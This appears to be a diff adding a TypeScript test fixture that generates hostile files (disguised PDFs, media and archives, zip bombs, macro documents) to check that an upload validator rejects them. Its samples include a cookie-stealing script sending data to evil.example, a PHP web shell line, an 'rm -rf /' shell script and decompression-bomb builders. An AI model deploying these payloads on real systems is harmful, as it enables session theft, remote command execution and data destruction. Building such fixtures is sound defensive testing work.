@@ -1,0 +1,155 @@
+import { randomBytes } from 'node:crypto';
+import { jpeg, pdf, png } from './files.ts';
+import { box, id3, isoMedia, mp3, oggPage, oggWithVideo, opus } from './media.ts';
+import { MACRO_PARTS, SHEET_PARTS, WORD_PARTS, zip, type Part } from './zip.ts';
+
+const text = (content: string): Buffer => Buffer.from(content, 'latin1');
+
+const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
+
+/** What other programs run, open or show, under whatever name it comes. */
+function otherTypes(): [string, Buffer][] {
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
+  return [
+    ['nothing', Buffer.alloc(0)],
+    ['one byte', text('%')],
+    ['zeros', Buffer.alloc(4096)],
+    ['plain text', text('hello')],
+    ['SVG', text(svg)],
+    ['SVG with declaration', text(`<?xml version="1.0"?>${svg}`)],
+    ['SVG behind a mark', Buffer.concat([Buffer.from('efbbbf', 'hex'), text(svg)])],
+    ['HTML', text(`<!doctype html><html>${SCRIPT}</html>`)],
+    ['XHTML', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`)],
+    ['PHP', text('<?php system($_GET["c"]); ?>')],
+    ['JavaScript', text('alert(document.domain)')],
+    ['shell', text('#!/bin/sh\nrm -rf /\n')],
+    ['Windows program', text(`MZ${'\0'.repeat(58)}\x80\0\0\0PE\0\0`)],
+    ['Linux program', text(`\x7fELF\x02\x01\x01${'\0'.repeat(60)}`)],
+    ['Java class', Buffer.from('cafebabe00000034', 'hex')],
+    ['old Word', Buffer.from(`d0cf11e0a1b11ae1${'00'.repeat(600)}`, 'hex')],
+    ['RTF', text('{\\rtf1\\ansi{\\object\\objemb}}')],
+    ['GIF with script', text(`GIF89a/*${SCRIPT}*/=1;`)],
+    ['BMP', text('BM\x46\0\0\0\0\0\0\0\x36\0\0\0')],
+    ['TIFF', text('II*\0\x08\0\0\0')],
+    ['PSD', text('8BPS\0\x01')],
+    ['icon', Buffer.from('00000100010010100000', 'hex')],
+    ['RAR', text('Rar!\x1a\x07\x01\0')],
+    ['7z', Buffer.from('377abcaf271c0004', 'hex')],
+    ['gzip', Buffer.from('1f8b0800000000000003', 'hex')],
+    ['PostScript', text('%!PS-Adobe-3.0\n(x) run')],
+    ['shortcut', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
+    ['Flash', text('CWS\x0a\0\0\0\0')],
+    ['WebM', Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d', 'hex')],
+    ['WAV', text(`RIFF\x24\0\0\0WAVEfmt ${'\0'.repeat(30)}`)],
+    ['AVI', text(`RIFF\x24\0\0\0AVI LIST${'\0'.repeat(30)}`)],
+  ];
+}
+
+async function pretenders(): Promise<[string, Buffer][]> {
+  return [
+    ['PDF that begins later', Buffer.concat([text('\n'), pdf()])],
+    ['PDF behind HTML', Buffer.concat([text(SCRIPT), pdf()])],
+    ['PDF header alone', text('%PDF-1.7\n')],
+    ['PDF header and HTML', text(`%PDF-1.7\n${SCRIPT}`)],
+    ['PDF without an end', pdf().subarray(0, 200)],
+    ['PDF without an object', text('%PDF-1.7\n%%EOF\n')],
+    ['PDF of no version', Buffer.concat([text('%PDF-x'), pdf().subarray(8)])],
+    ['PDF with HTML behind', Buffer.concat([pdf(), text(SCRIPT)])],
+    ['PDF and archive', Buffer.concat([pdf(), zip(WORD_PARTS)])],
+    ['PDF in an archive’s comment', Buffer.concat([pdf(), zip([{ name: 'a', content: 'b' }], '%%EOF\n')])],
+    ['PDF with a program behind', Buffer.concat([pdf(), text('MZ'), Buffer.alloc(4000, 1)])],
+    ['MP3 signature alone', Buffer.concat([Buffer.from('fffb9000', 'hex'), Buffer.alloc(5000)])],
+    ['MP3 tag alone', id3(3000)],
+    ['MP3 tag with HTML', Buffer.concat([id3(20), text(`<html>${SCRIPT}`.repeat(50))])],
+    ['a little MP3, much else', Buffer.concat([(await mp3()).subarray(0, 1000), text(`<html>${SCRIPT}`.repeat(200))])],
+    ['MPEG layer II', Buffer.concat(Array.from({ length: 8 }, () => Buffer.concat([Buffer.from('fffd9000', 'hex'), Buffer.alloc(414)])))],
+    ['AAC stream', Buffer.concat(Array.from({ length: 8 }, () => Buffer.from('fff15080017ffc', 'hex')))],
+    ['M4A header alone', box('ftyp', 'M4A ', '\0\0\0\0', 'isom')],
+    ['MP4 with zeros', Buffer.concat([box('ftyp', 'isom', '\0\0\0\0', 'isom'), Buffer.alloc(5000)])],
+    ['MP4 without tracks', isoMedia('isom', [])],
+    ['MP4 with HTML behind', Buffer.concat([isoMedia('isom', ['vide']), text(`<html>${SCRIPT}`)])],
+    ['MP4 of subtitles', isoMedia('isom', ['sbtl'])],
+    ['box longer than the file', Buffer.concat([isoMedia('isom', ['vide']), Buffer.from('7fffffff6d646174', 'hex')])],
+    ['QuickTime', isoMedia('qt  ', ['vide'])],
+    ['3GP', isoMedia('3gp4', ['vide'])],
+    ['HEIC', isoMedia('heic', ['pict'])],
+    ['AVIF', isoMedia('avif', ['pict'])],
+    ['Ogg signature alone', text('OggS')],
+    ['Ogg of one page', oggPage(1, 2, 'OpusHead')],
+    ['Ogg with video', oggWithVideo()],
+    ['Ogg of something', Buffer.concat([oggPage(1, 2, 'fishead\0'), oggPage(1, 4, 'x')])],
+    ['Ogg with HTML behind', Buffer.concat([opus(), text(`<html>${SCRIPT}`)])],
+    ['JPEG behind HTML', Buffer.concat([text(SCRIPT), await jpeg()])],
+    ['PNG with a wrong signature', Buffer.concat([Buffer.from('89504e470a0a1a0a', 'hex'), (await png()).subarray(8)])],
+  ];
+}
+
+const wordWith = (...parts: Part[]): Buffer => zip([...WORD_PARTS, ...parts]);
+const MB = 1024 * 1024;
+
+function archives(): [string, Buffer][] {
+  const good = zip(WORD_PARTS);
+  const zeros = (size: number) => ({ name: 'word/media/image1.bin', content: Buffer.alloc(size) });
+  return [
+    ['plain archive', zip([{ name: 'readme.txt', content: 'x' }])],
+    ['empty archive', text(`PK\x05\x06${'\0'.repeat(18)}`)],
+    ['Java archive', zip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: x' }])],
+    ['Android package', zip([{ name: 'AndroidManifest.xml', content: 'x' }])],
+    ['OpenDocument', zip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 }])],
+    ['document without its contents', zip(WORD_PARTS.slice(1))],
+    ['contents without a document', zip(WORD_PARTS.slice(0, 2))],
+    ['slides', zip([WORD_PARTS[0]!, { name: 'ppt/presentation.xml', content: '<p/>' }])],
+    ['both kinds', zip([...WORD_PARTS, ...SHEET_PARTS.slice(1)])],
+    ['macros by type', zip(MACRO_PARTS)],
+    ['macros by part', wordWith({ name: 'word/vbaProject.bin', content: 'x' })],
+    ['1,000:1', wordWith(zeros(20 * MB))],
+    ['1,000:1, small', wordWith(zeros(100 * 1024))],
+    [
+      'a thousand parts of 1,000:1',
+      wordWith(...Array.from({ length: 1000 }, (_, at) => ({ ...zeros(64 * 1024), name: `word/${at}.xml` }))),
+    ],
+    ['4 GB declared', wordWith({ name: 'a', content: 'x'.repeat(100), declared: 0xfffffffe })],
+    ['too much declared in all', wordWith(...heavy())],
+    ['too many entries', wordWith(...Array.from({ length: 4001 }, (_, at) => ({ name: `word/${at}.xml`, content: '' })))],
+    ['one name twice', wordWith({ name: 'word/document.xml', content: 'another' })],
+    ['encrypted', wordWith({ name: 'a', content: 'x', flags: 1 })],
+    ['unknown packing', wordWith({ name: 'a', content: 'x', method: 12 })],
+    ['stored, but declared larger', wordWith({ name: 'a', content: 'x', method: 0, declared: 5 })],
+    ['program before the archive', Buffer.concat([text('MZ'), good])],
+    ['HTML behind the archive', Buffer.concat([good, text(SCRIPT)])],
+    ['overlapping entries', overlapping()],
+    ['cut off', good.subarray(0, good.length - 30)],
+    ['contents too long', zip([{ name: '[Content_Types].xml', content: Buffer.alloc(MB, 'ab12') }, ...WORD_PARTS.slice(1)])],
+    ['contents broken', brokenContents()],
+  ];
+}
+
+/** Parts within the ratio, one by one, that declare 300 MB together. */
+function heavy(): Part[] {
+  return Array.from({ length: 200 }, (_, at) => ({ name: `word/media/${at}`, content: randomBytes(5000), declared: 1_500_000 }));
+}
+
+/** The packed bytes of the list of contents are no deflate stream. */
+function brokenContents(): Buffer {
+  const bytes = zip(WORD_PARTS);
+  const packed = 30 + '[Content_Types].xml'.length;
+  bytes.fill(0xff, packed, packed + 40);
+  return bytes;
+}
+
+/** The third entry's record points at the second's bytes. */
+function overlapping(): Buffer {
+  const bytes = zip(WORD_PARTS);
+  const records = [0, 1, 2].map((index) => {
+    let at = bytes.indexOf('PK\x01\x02', 0, 'latin1');
+    for (let step = 0; step < index; step++) at = bytes.indexOf('PK\x01\x02', at + 4, 'latin1');
+    return at;
+  });
+  bytes.writeUInt32LE(bytes.readUInt32LE(records[1]! + 42), records[2]! + 42);
+  return bytes;
+}
+
+/** Files that must not be taken for any of the allowed kinds. */
+export async function hostileFiles(): Promise<[name: string, bytes: Buffer][]> {
+  return [...otherTypes(), ...(await pretenders()), ...archives()];
+}
